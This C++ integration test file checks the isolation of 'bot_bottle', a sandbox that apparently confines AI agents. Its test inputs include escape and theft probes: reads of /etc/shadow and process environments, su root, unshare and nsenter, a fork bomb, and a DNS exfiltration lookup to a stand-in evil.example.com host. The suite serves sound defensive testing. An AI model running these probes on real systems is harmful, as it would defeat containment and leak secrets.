// A bottle of the local backend, looked at from inside and from outside.
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <array>
#include <fstream>

#include "core/base/text.hpp"
#include "tests/integration/local/fixture.hpp"

namespace bot_bottle::test {
namespace {

using ::testing::Test;

class Bottle : public LocalBackendTest {};

TEST_F(Bottle, probe_says_that_this_machine_can_run_bottles) {
  const json::object probe = backend().probe();
  EXPECT_TRUE(get_bool(probe, "available", false)) << get_string(probe, "reason") << ": " << get_string(probe, "fix");
}

TEST_F(Bottle, a_program_gives_its_code_and_both_streams) {
  const json::object bottle = launch();
  const Output output = shell(bottle, "echo out; echo err >&2; exit 3");
  EXPECT_EQ(output.code, 3);
  EXPECT_EQ(output.out, "out\n");
  EXPECT_EQ(output.err, "err\n");
  EXPECT_EQ(shell(bottle, "kill -9 $$").code, 137);
}

TEST_F(Bottle, standard_input_reaches_the_program_and_ends) {
  const json::object bottle = launch();
  std::array<int, 2> ends{};
  ASSERT_EQ(::pipe2(ends.data(), O_CLOEXEC), 0);
  ASSERT_EQ(::write(ends[1], "hello", 5), 5);
  ::close(ends[1]);
  EXPECT_EQ(run(bottle, {"/bin/cat"}, ends[0]).out, "hello");
  ::close(ends[0]);
  EXPECT_EQ(run(bottle, {"/bin/cat"}).out, "");
}

TEST_F(Bottle, a_program_that_is_not_there_is_not_found) {
  const json::object bottle = launch();
  EXPECT_EQ(error_of([&] { run(bottle, {"no-such-program"}); }).kind, ErrorKind::not_found);
  EXPECT_EQ(error_of([&] { run(bottle, {"/etc/passwd"}); }).kind, ErrorKind::permission_denied);
}

TEST_F(Bottle, output_above_the_limit_is_cut_and_said_so) {
  const json::object bottle = launch();
  const json::object result = backend().exec(bottle,
                                             {{"schema", "bot-bottle.exec/1"},
                                              {"argv", {"/bin/sh", "-c", "yes | head -c 300000"}},
                                              {"env", {{"PATH", "/usr/bin:/bin"}}},
                                              {"max_output", 1000}},
                                             -1);
  EXPECT_EQ(get_string(result, "stdout").size(), 1000U);
  EXPECT_TRUE(get_bool(result, "truncated", false));
}

TEST_F(Bottle, a_program_over_its_time_is_killed_with_its_group) {
  const json::object bottle = launch();
  const Error error = error_of([&] {
    backend().exec(bottle,
                   {{"schema", "bot-bottle.exec/1"},
                    {"argv", {"/bin/sh", "-c", "sleep 71717 & sleep 71717"}},
                    {"env", {{"PATH", "/usr/bin:/bin"}}},
                    {"timeout_ms", 150}},
                   -1);
  });
  EXPECT_EQ(error.kind, ErrorKind::timeout);
  EXPECT_TRUE(soon([] { return processes_with("71717") == 0; }));
}

TEST_F(Bottle, the_guest_sees_the_given_environment_and_nothing_else) {
  ::setenv("OPERATORS_SECRET", "planted", 1);
  const json::object bottle = launch();
  const Output output = run(bottle, {"/usr/bin/env"});
  EXPECT_EQ(output.out.find("OPERATORS_SECRET"), std::string::npos);
  EXPECT_EQ(std::ranges::count(output.out, '\n'), 2) << output.out;
  EXPECT_EQ(shell(bottle, "cat /proc/*/environ | tr '\\0' '\\n' | grep -c planted").out, "0\n");
}

TEST_F(Bottle, inside_one_is_the_agent_without_a_way_up) {
  const json::object bottle = launch();
  EXPECT_EQ(shell(bottle, "id -un; id -u; id -g; hostname").out, "agent\n1000\n1000\nbottle\n");
  EXPECT_NE(shell(bottle, "su root -c id").code, 0);
  EXPECT_EQ(
      shell(bottle, "cat /proc/self/status | grep -E '^(CapEff|CapBnd|CapPrm|CapAmb)' | grep -vc 0000000000000000").out,
      "0\n");
  EXPECT_EQ(error_of([&] {
              backend().exec(
                  bottle,
                  {{"schema", "bot-bottle.exec/1"}, {"argv", {"id"}}, {"env", json::object{}}, {"user", "root"}}, -1);
            }).kind,
            ErrorKind::unsupported);
}

TEST_F(Bottle, as_root_the_agents_uid_on_the_host_is_nobody_elses) {
  if (!is_root()) return;  // as a user it is the user's own, by the nature of user namespaces
  const json::object first = launch(spec("x-1"));
  const json::object second = launch(spec("x-2"));
  std::vector<uid_t> uids;
  for (const json::object* bottle : {&first, &second}) {
    struct stat status {};
    const std::string process = "/proc/" + std::to_string(get_int(*find_object(*bottle, "data"), "init", -1));
    const std::string text = read(process + "/status");
    const std::size_t at = text.find("Uid:\t");
    ASSERT_NE(at, std::string::npos);
    uids.push_back(static_cast<uid_t>(std::strtoul(text.c_str() + at + 5, nullptr, 10)));
    ASSERT_EQ(::stat((state_of(get_string(*bottle, "slug")) / "backend/home").c_str(), &status), 0);
    EXPECT_EQ(status.st_uid, uids.back());
  }
  EXPECT_GE(uids[0], 50'000U);
  EXPECT_NE(uids[0], uids[1]);
}

TEST_F(Bottle, spec09_5_nothing_of_the_operator_is_visible) {
  write(home_ / "secret-of-the-operator", "planted");
  const json::object bottle = launch();
  EXPECT_NE(shell(bottle, "cat " + (home_ / "secret-of-the-operator").string()).code, 0);
  EXPECT_NE(shell(bottle, "ls /root || ls /home/cloudsdk").code, 0);
  EXPECT_EQ(shell(bottle, "ls /home").out, "agent\n");
  EXPECT_EQ(shell(bottle, "ls /run").out, "bottle\n");
  EXPECT_EQ(shell(bottle, "ls /var").out, "tmp\n");
  EXPECT_NE(shell(bottle, "ls /sys/kernel").code, 0);
  EXPECT_NE(shell(bottle, "cat /etc/shadow").code, 0);
  EXPECT_NE(shell(bottle, "ls /etc/ssh || cat /etc/machine-id").code, 0);
  EXPECT_LE(std::stoi(shell(bottle, "ls -d /proc/[0-9]* | wc -l").out), 4);  // pid 1, sh, ls, wc
}

TEST_F(Bottle, H5_only_home_workspace_and_tmp_can_be_written) {
  const json::object bottle = launch();
  for (const char* place : {"/", "/etc", "/usr", "/usr/bin", "/dev", "/run", "/run/bottle", "/run/bottle/wire",
                            "/run/bottle/bin", "/var", "/home", "/proc/sys/kernel"})
    EXPECT_NE(shell(bottle, std::string("echo x > ") + place + "/planted").code, 0) << place;
  for (const char* place : {"/home/agent", "/workspace", "/var/tmp", "/dev/shm"})
    EXPECT_EQ(shell(bottle, std::string("echo x > ") + place + "/f && mkdir " + place + "/d && mv " + place + "/f " +
                                place + "/d/g")
                  .code,
              0)
        << place;
  EXPECT_NE(shell(bottle, "mount -o remount,rw /usr").code, 0);
  EXPECT_NE(shell(bottle, "rm /run/bottle/wire/egress.sock").code, 0);
}

TEST_F(Bottle, H8_no_device_node_and_no_namespace_can_be_made) {
  const json::object bottle = launch();
  EXPECT_NE(shell(bottle, "mknod /tmp/d c 1 3").code, 0);
  EXPECT_NE(shell(bottle, "unshare -U true").code, 0);
  EXPECT_NE(shell(bottle, "unshare -n true").code, 0);
  EXPECT_NE(shell(bottle, "nsenter -t 1 -n true").code, 0);
  EXPECT_NE(shell(bottle, "chroot / true").code, 0);
}

TEST_F(Bottle, spec09_5_the_first_process_cannot_be_read_or_traced_or_killed) {
  const json::object bottle = launch();
  EXPECT_NE(shell(bottle, "cat /proc/1/environ").code, 0);
  EXPECT_NE(shell(bottle, "ls -l /proc/1/fd").code, 0);
  EXPECT_NE(shell(bottle, "head -c1 /proc/1/mem").code, 0);
  shell(bottle, "kill -9 1; kill -TERM 1; kill -INT 1; kill -STOP 1; kill -HUP 1");
  EXPECT_EQ(shell(bottle, "echo alive").out, "alive\n");
}

TEST_F(Bottle, C8_no_descriptor_is_inherited) {
  const json::object bottle = launch();
  EXPECT_EQ(run(bottle, {"/bin/sh", "-c", "ls /proc/self/fd | wc -l"}).out, "4\n");  // 0 to 2, and the directory itself
}

TEST_F(Bottle, the_selftest_finds_every_wall_in_place) {
  const json::object bottle = launch();
  EXPECT_THAT(selftest(bottle), ::testing::IsEmpty());
}

struct Guard {
  const char* name;
  const char* said;
};
class GuardRemoved : public LocalBackendTest, public ::testing::WithParamInterface<Guard> {};

TEST_P(GuardRemoved, the_selftest_sees_it) {
  json::object with_hole = spec();
  with_hole["disabled_guards"] = json::array{GetParam().name};
  const json::object bottle = launch(with_hole);
  EXPECT_THAT(selftest(bottle), ::testing::Contains(::testing::HasSubstr(GetParam().said)));
}

INSTANTIATE_TEST_SUITE_P(each, GuardRemoved,
                         ::testing::Values(Guard{"netns", "network namespace"}, Guard{"seccomp", "seccomp"},
                                           Guard{"caps", "capabilities"}, Guard{"userns", "user namespace"}),
                         [](const auto& entry) { return std::string(entry.param.name); });

TEST_F(Bottle, the_selftest_sees_that_the_sidecar_is_gone) {
  const json::object bottle = launch();
  wires_.clear();
  EXPECT_THAT(selftest(bottle), ::testing::Contains(::testing::HasSubstr("endpoint egress")));
}

TEST_F(Bottle, an_endpoint_carries_bytes_both_ways) {
  const json::object bottle = launch();
  const Output output = run(bottle, {"/usr/bin/perl", "-MIO::Socket::INET", "-e",
                                     "$s=IO::Socket::INET->new('127.0.0.1:9099') or die; $d='ab'x500000; "
                                     "if(!fork){print $s $d; shutdown($s,1); exit} "
                                     "$n=0;$n+=length while(<$s>); print $n"});
  EXPECT_EQ(output.out, "1000000") << output.err;
  EXPECT_EQ(
      run(bottle, {"/usr/bin/perl", "-MIO::Socket::INET", "-e",
                   "$s=IO::Socket::INET->new('127.0.0.1:9099') or die; print $s 'hi'; shutdown($s,1); print <$s>"})
          .out,
      "HI");
}

TEST_F(Bottle, B1_a_dns_question_is_refused_and_seen_over_udp_and_tcp) {
  const json::object bottle = launch();
  const Output output = shell(bottle, "getent hosts data-in-a-label.evil.example.com; echo $?");
  EXPECT_EQ(output.out, "2\n");
  EXPECT_TRUE(wires_[0]->has_report("data-in-a-label.evil.example.com"));
  const Output tcp = run(bottle, {"/usr/bin/perl", "-MIO::Socket::INET", "-e",
                                  "$q=pack('n6',7,256,1,0,0,0).\"\\x04over\\x03tcp\\x00\".pack('nn',16,1); "
                                  "$s=IO::Socket::INET->new('127.0.0.1:53') or die; "
                                  "print $s pack('n',length $q).$q; read($s,$r,6); print join ' ',unpack('n3',$r)"});
  EXPECT_EQ(tcp.out, "26 7 33029") << tcp.err;  // 0x8105: a reply, recursion was desired, REFUSED
  EXPECT_TRUE(wires_[0]->has_report("\"name\":\"over.tcp\",\"type\":\"TXT\",\"transport\":\"tcp\""));
}

TEST_F(Bottle, git_python_and_node_work_inside) {
  const json::object bottle = launch();
  EXPECT_EQ(shell(bottle,
                  "cd /workspace && git init -q . && git -c user.name=a -c user.email=a@example.com commit -q "
                  "--allow-empty -m x && git log --oneline | wc -l")
                .out,
            "1\n");
  EXPECT_EQ(shell(bottle,
                  "test -x /usr/bin/python3 || { echo 3; exit; }; /usr/bin/python3 -c 'import threading,subprocess; "
                  "t=threading.Thread(target=print,args=(1,)); t.start(); t.join(); "
                  "print(subprocess.run([\"echo\",\"2\"]).returncode)'")
                .code,
            0);
  if (std::filesystem::exists("/usr/bin/node")) {
    EXPECT_EQ(shell(bottle,
                    "node -e \"const{Worker}=require('worker_threads');new "
                    "Worker('process.stdout.write(require(\\'os\\').hostname())',{eval:true})\"")
                  .out,
              "bottle");
  }
}

TEST_F(Bottle, L_a_fork_bomb_stays_inside) {
  json::object small = spec();
  small["resources"] = json::object{{"pids", 40}};
  const json::object bottle = launch(small);
  const Output output = shell(bottle, "for i in $(seq 100); do sleep 5 & done; wait; echo done");
  EXPECT_NE(output.out, "done\n");
  EXPECT_LE(processes_with("sleep"), 60);
  EXPECT_EQ(std::system("true"), 0);
}

TEST_F(Bottle, L_a_memory_limit_holds_or_is_refused_by_name) {
  json::object small = spec();
  small["resources"] = json::object{{"memory", 64 << 20}};
  const json::object probe = backend().probe();
  const auto features = get_strings(probe, "features");
  if (std::ranges::find(features, "limits.memory") == features.end()) {
    const Error error = error_of([&] { backend().plan(small); });
    EXPECT_EQ(error.kind, ErrorKind::unsupported);
    EXPECT_THAT(error.message, ::testing::HasSubstr("resources.memory"));
    return;
  }
  const json::object bottle = launch(small);
  EXPECT_EQ(shell(bottle, "head -c 300000000 /dev/zero | tail | wc -c").code == 0 &&
                shell(bottle, "head -c 300000000 /dev/zero | tail | wc -c").out == "300000000\n",
            false);
  EXPECT_EQ(shell(bottle, "echo alive").out, "alive\n");
}

TEST_F(Bottle, L_the_bottle_ends_when_it_exceeds_its_disk_and_says_why) {
  json::object small = spec();
  small["resources"] = json::object{{"disk", 8 << 20}};
  const json::object bottle = launch(small);
  try {
    shell(bottle, "while :; do head -c 4000000 /dev/zero >> /home/agent/fill || exit; sleep 0.02; done");
    ADD_FAILURE() << "the bottle lived on";
  } catch (const Failure& failure) {
    EXPECT_EQ(failure.error().kind, ErrorKind::failed_precondition);
  }
  EXPECT_TRUE(soon([&] { return !is_running("x-1"); }));
  EXPECT_THAT(error_of([&] { shell(bottle, "true"); }).message, ::testing::HasSubstr("limit is 8.0 MiB"));
  EXPECT_THAT(read(state_of("x-1") / "logs/events.jsonl"), ::testing::HasSubstr("bottle_ended"));
}

TEST_F(Bottle, tmp_has_a_bound) {
  const json::object bottle = launch();
  EXPECT_NE(shell(bottle, "fallocate -l 2000000000 /tmp/x").code, 0);
  EXPECT_NE(shell(bottle, "fallocate -l 2000000000 /dev/shm/x").code, 0);
}

TEST_F(Bottle, the_agents_program_is_found_and_alone_visible) {
  const auto prefix = home_ / "node/lib/node_modules";
  write(prefix / "@scope/tool/cli.sh",
        "#!/bin/sh\necho tool says $1\ncat \"$(dirname \"$(readlink -f \"$0\")\")/../tool-linux-x64/part\"\n");
  write(prefix / "@scope/tool-linux-x64/part", "native\n");
  write(prefix / "@scope/other/secret", "planted\n");
  ::chmod((prefix / "@scope/tool/cli.sh").c_str(), 0755);
  std::filesystem::create_directories(home_ / "node/bin");
  std::filesystem::create_symlink("../lib/node_modules/@scope/tool/cli.sh", home_ / "node/bin/tool");
  json::object with_program = spec();
  with_program["program"] = "tool";
  with_program["search_path"] = (home_ / "node/bin").string() + ":/usr/bin";
  const json::object bottle = launch(with_program);
  EXPECT_EQ(run(bottle, {"tool", "hi"}).out, "tool says hi\nnative\n");
  EXPECT_EQ(shell(bottle, "/home/agent/.local/bin/tool hi").out, "tool says hi\nnative\n");
  EXPECT_NE(shell(bottle, "cat " + (prefix / "@scope/other/secret").string()).code, 0);
}

TEST_F(Bottle, a_program_that_is_not_installed_is_an_error_that_says_how) {
  json::object with_program = spec();
  with_program["program"] = "no-such-agent";
  const Error error = error_of([&] { backend().plan(with_program); });
  EXPECT_EQ(error.kind, ErrorKind::not_found);
  EXPECT_THAT(error.message, ::testing::HasSubstr("no-such-agent"));
  EXPECT_THAT(error.hint, ::testing::HasSubstr("install"));
}

TEST_F(Bottle, H7_bind_ro_never_shows_the_home_or_the_state) {
  for (const std::string& path :
       {std::string("/"), std::string("/proc"), std::string("/run"), home_.string(), home_.parent_path().string()}) {
    json::object with_bind = spec();
    with_bind["bind_ro"] = json::array{path};
    error_of([&] { backend().plan(with_bind); });
  }
}

TEST_F(Bottle, an_unpacked_root_file_system_can_be_used) {
  const auto rootfs = std::filesystem::path(home_.string() + "-rootfs");
  for (const char* name : {"usr/bin", "etc", "opt/thing", "tmp"}) std::filesystem::create_directories(rootfs / name);
  write(rootfs / "opt/thing/file", "from the rootfs\n");

  std::filesystem::create_symlink("usr/bin", rootfs / "bin");
  json::object with_rootfs = spec();
  with_rootfs["rootfs"] = rootfs.string();
  const json::object bottle = launch(with_rootfs);
  EXPECT_THAT(selftest(bottle), ::testing::IsEmpty());  // static, so it runs in anything
  std::filesystem::remove_all(rootfs);
}

}  // namespace
}  // namespace bot_bottle::test
